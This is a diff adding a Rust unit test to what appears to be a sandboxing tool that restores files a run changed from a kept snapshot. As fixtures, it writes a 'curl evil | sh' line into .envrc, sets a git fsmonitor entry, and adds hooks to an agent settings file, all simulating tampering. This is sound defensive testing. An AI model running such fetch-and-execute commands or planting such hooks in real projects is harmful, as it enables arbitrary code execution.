@@ -3112,4 +3112,60 @@ mod tests {
         );
         assert!(root.join(".envrc").exists());
     }
+    /// What a run keeps of its "before" snapshot ([`Snapshot::kept`]) is what a dead run's
+    /// scan puts back: a changed file gets its earlier content and mode; a file too large to
+    /// have been read, and everything when the kept bytes are not whole (a cordon killed while
+    /// writing them), is moved aside as before, not restored.
+    #[test]
+    fn the_earlier_contents_a_run_kept_are_restored_by_the_dead_runs_scan() {
+        use std::os::unix::fs::PermissionsExt;
+        for whole in [true, false] {
+            let d = tempfile::tempdir().unwrap();
+            let root = d.path().canonicalize().unwrap();
+            let roots = std::slice::from_ref(&root);
+            std::fs::create_dir_all(root.join(".git")).unwrap();
+            std::fs::create_dir_all(root.join(".claude")).unwrap();
+            std::fs::write(root.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
+            std::fs::write(root.join(".git/config"), "[core]\n\tbare = false\n").unwrap();
+            let big = vec![b'#'; MAX_CONTENT as usize + 1];
+            std::fs::write(root.join(".envrc"), &big).unwrap();
+            let settings = root.join(".claude/settings.json");
+            std::fs::write(&settings, "{}\n").unwrap();
+            std::fs::set_permissions(&settings, std::fs::Permissions::from_mode(0o640)).unwrap();
+            let started = SystemTime::now();
+            let mut kept = Snapshot::take(roots).kept();
+            assert!(
+                Kept::read(&kept).left_out >= 1,
+                "the large .envrc is left out"
+            );
+            if !whole {
+                kept.truncate(kept.len() - 1);
+            }
+            std::fs::write(root.join(".git/config"), "[core]\n\tfsmonitor = x\n").unwrap();
+            std::fs::write(&settings, "{\"hooks\":{}}\n").unwrap();
+            std::fs::write(root.join(".envrc"), "curl evil | sh").unwrap();
+            let found = scan_changed_since(roots, started, &Kept::read(&kept), None).unwrap();
+            assert_eq!(found.len(), 3, "{found:#?}");
+            for f in &found {
+                let restored = matches!(f.handling, Handling::Restored(_));
+                let large = f.path.ends_with(".envrc");
+                assert_eq!(restored, whole && !large, "{f:#?}");
+            }
+            if whole {
+                assert_eq!(
+                    std::fs::read_to_string(root.join(".git/config")).unwrap(),
+                    "[core]\n\tbare = false\n"
+                );
+                assert_eq!(std::fs::read_to_string(&settings).unwrap(), "{}\n");
+                let mode = std::fs::metadata(&settings).unwrap().permissions().mode();
+                assert_eq!(mode & 0o777, 0o640);
+                // What was put back is cordon's own: not taken for a change again.
+                let again = scan_changed_since(roots, started, &Kept::default(), None).unwrap();
+                assert!(again.is_empty(), "{again:#?}");
+            } else {
+                assert!(!settings.exists() && !root.join(".git/config").exists());
+            }
+            assert!(!root.join(".envrc").exists());
+        }
+    }
 }
